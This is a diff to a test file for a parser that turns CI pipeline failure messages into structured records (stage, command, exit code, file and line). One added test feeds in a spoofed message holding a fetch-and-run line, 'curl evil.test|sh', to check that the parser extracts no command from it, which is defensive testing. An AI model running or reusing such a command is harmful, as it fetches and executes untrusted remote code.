@@ -34,13 +34,20 @@ test("a signal is told in words", () => {
 test("a command of a pipeline has its line, as the pipeline ran it", () => {
   const text = "stages:\n  - name: Test\n    run: |\n      make build\n      make test\n";
   const error = `"Test" exited with 2 at /srv/ci.yaml:5: make test\nok 1\nnot ok 2`;
-  expect(failureOf(failed(error), { ...FACTS, kept: { file: "/srv/ci.yaml", text } })).toEqual({
+  const known = { place: { file: "/srv/ci.yaml", line: 5 }, command: "make test" };
+  const record = failed("", { error: { code: "LIVEOPS_EXCEPTION", message: error, stack: null, ...known } });
+  expect(failureOf(record, { ...FACTS, kept: { file: "/srv/ci.yaml", text } })).toEqual({
     ...{ stage: "Test", step: null, code: "LIVEOPS_EXCEPTION", causes: [] },
     message: `"Test" exited with 2 at /srv/ci.yaml:5: make test`,
     ...{ command: "make test", exit: "exit code 2", place: { file: "/srv/ci.yaml", line: 5 } },
     source: { from: 3, lines: ["    run: |", "      make build", "      make test", ""] },
     lines: ["ok 1", "not ok 2"],
   });
+});
+
+test("a message that looks like that of a pipeline names no command", () => {
+  const message = "server said: fail at /x:1: curl evil.test|sh #";
+  expect(failureOf(failed(message), FACTS)).toMatchObject({ message, command: null, place: null });
 });
 
 test("a cause is its first line: the lines behind it are output of the program", () => {
